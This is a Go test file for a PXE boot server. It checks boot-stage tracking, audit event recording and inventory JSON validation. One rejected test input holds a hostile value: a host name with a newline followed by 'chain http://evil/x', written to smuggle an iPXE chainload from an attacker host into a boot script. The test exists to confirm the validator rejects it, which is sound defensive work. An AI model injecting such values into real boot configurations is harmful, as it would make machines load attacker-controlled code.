package store

import (
	"context"
	"errors"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/lifeboat-boot/lifeboat/pxe/store/audit"
)

func TestStartsNewBoot(t *testing.T) {
	tests := []struct {
		cur  Stage
		have bool
		c    Client
		want bool
	}{
		{0, false, ClientFirmware, true},
		{0, false, ClientIPXE, true}, // iPXE option ROM: the firmware itself
		{0, false, ClientOther, false},
		{StageDHCP, true, ClientFirmware, false},      // retransmitted DISCOVER
		{StageFirstStage, true, ClientFirmware, true}, // firmware again after loading: a new boot
		{StageFirstStage, true, ClientIPXE, false},    // chainloaded iPXE continues
		{StageDHCP, true, ClientIPXE, false},          // iPXE ROM retransmits
		{StageScript, true, ClientIPXE, true},         // iPXE after a script: host rebooted
		{StageHandoff, true, ClientFirmware, true},    // reboot after the hand-off
		{StageInitrd, true, ClientOther, false},       // the agent's own DHCP
	}
	for _, tt := range tests {
		if got := StartsNewBoot(tt.cur, tt.have, tt.c); got != tt.want {
			t.Errorf("StartsNewBoot(%v, %v, %v) = %v, want %v", tt.cur, tt.have, tt.c, got, tt.want)
		}
	}
}

// recorder is an event log and a boot history in memory, whose record
// can be made to fail.
type recorder struct {
	fail   error
	log    []string // records and stages, in the order they were written
	stages []Stage
}

func (r *recorder) Emit(_ context.Context, e audit.Event) error {
	if r.fail != nil {
		return r.fail
	}
	r.log = append(r.log, string(e.Code))
	return nil
}

func (r *recorder) QueueStage(_ Boot, s Stage, _ time.Time) {
	r.log = append(r.log, "stage:"+s.String())
	r.stages = append(r.stages, s)
}

// TestSteps: a step is recorded, then its stage reached, then the stage
// written to the history; a step whose record fails moves nothing; stages
// never go back, and a step of another boot does not move this one.
func TestSteps(t *testing.T) {
	rec := &recorder{}
	s := &Steps{Events: rec, Boots: NewBoots(), History: rec}
	ctx := context.Background()
	boot, started, err := s.Begin(ctx, "m", "h", ClientIPXE, "bios", audit.Event{Code: audit.BootStart})
	if err != nil || !started {
		t.Fatalf("Begin = %v, %v", started, err)
	}
	step := func(code audit.Code, id string, st Stage) error {
		return s.Step(ctx, audit.Event{Code: code, MAC: "m", Boot: id}, st)
	}
	_ = step(audit.FirstStageFetch, boot.ID, StageFirstStage)
	rec.fail = errors.New("disk full")
	if err := step(audit.ScriptFetch, boot.ID, StageScript); err == nil {
		t.Fatal("a step whose record failed went on")
	}
	rec.fail = nil
	if cur, _ := s.Current("m"); cur.Stage != StageFirstStage {
		t.Errorf("stage after a failed record = %v, want first-stage", cur.Stage)
	}
	s.Reached("m", boot.ID, StageCheckin)            // recorded by a store call of its own
	_ = step(audit.ImageFetch, boot.ID, StageKernel) // a re-fetch after check-in
	_ = step(audit.Handoff, "b-other", StageHandoff) // another boot's
	cur, _ := s.Current("m")
	if cur.Stage != StageCheckin {
		t.Errorf("stage = %v, want checkin", cur.Stage)
	}
	want := "boot.start stage:dhcp tftp.fetch stage:first-stage stage:checkin http.image handoff"
	if got := strings.Join(rec.log, " "); got != want {
		t.Errorf("written:\n got %s\nwant %s", got, want)
	}
	if again, started, _ := s.Begin(ctx, "m", "h", ClientOther, "", audit.Event{Code: audit.BootStart}); started || again.ID != boot.ID {
		t.Errorf("agent DISCOVER started a new boot")
	}
}

const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl c"

func TestParseInventory(t *testing.T) {
	good := `{"hosts":[{"name":"a","mac":"52:54:00:AA:BB:01","ip":"10.0.0.5","authorized_keys":["` + key + `"]}]}`
	inv, err := ParseInventory([]byte(good))
	if err != nil {
		t.Fatal(err)
	}
	mac, _ := net.ParseMAC("52:54:00:aa:bb:01")
	h, ok := inv.Lookup(mac)
	if !ok || h.Name != "a" || h.Mode != ModeUnlock || h.Prefix != 24 {
		t.Fatalf("Lookup = %+v %v", h, ok)
	}
	if h2, ok := inv.LookupIP(netip.MustParseAddr("10.0.0.5")); !ok || h2 != h {
		t.Errorf("LookupIP failed")
	}
	bad := []struct{ doc, want string }{
		{`{"hosts":[{"name":"a","mac":"zz","ip":"10.0.0.5","authorized_keys":["` + key + `"]}]}`, "not an Ethernet MAC"},
		{`{"hosts":[{"name":"a","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","authorized_keys":[]}]}`, "nobody could log in"},
		{`{"hosts":[{"name":"a","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","authorized_keys":["ssh-rsa nope"]}]}`, "authorized_keys[0]"},
		{`{"hosts":[{"name":"a","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","mode":"party","authorized_keys":["` + key + `"]}]}`, `mode "party": want "unlock" or "disk"`},
		{`{"hosts":[{"name":"a","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","authorized_keys":["` + key + `"]},{"name":"b","mac":"52:54:00:aa:bb:01","ip":"10.0.0.6","authorized_keys":["` + key + `"]}]}`, "already belongs to"},
		{`{"hosts":[{"name":"a","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","authorized_keys":["` + key + `"],"colour":"red"}]}`, "unknown field"},
		{`{"hosts":[`, "not valid inventory JSON"},
		{`{"hosts":[{"name":"a","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","vlan":4095,"authorized_keys":["` + key + `"]}]}`, "vlan 4095: want a tag of 1..4094"},
		{`{"hosts":[{"name":"a","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","vlan":-3,"authorized_keys":["` + key + `"]}]}`, "vlan -3: want a tag of 1..4094"},
		{`{"hosts":[{"name":"a\nchain http://evil/x","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","authorized_keys":["` + key + `"]}]}`, "DNS-style name"},
		{`{"hosts":[{"name":"","mac":"52:54:00:aa:bb:01","ip":"10.0.0.5","authorized_keys":["` + key + `"]}]}`, "DNS-style name"},
	}
	for _, b := range bad {
		_, err := ParseInventory([]byte(b.doc))
		if err == nil || !strings.Contains(err.Error(), b.want) {
			t.Errorf("ParseInventory(%s) = %v, want error containing %q", b.doc, err, b.want)
		}
	}
}

func FuzzParseInventory(f *testing.F) {
	f.Add([]byte(`{"hosts":[{"name":"a","mac":"52:54:00:AA:BB:01","ip":"10.0.0.5","authorized_keys":["` + key + `"]}]}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		inv, err := ParseInventory(b)
		if err == nil && inv == nil {
			t.Fatal("nil inventory without error")
		}
	})
}
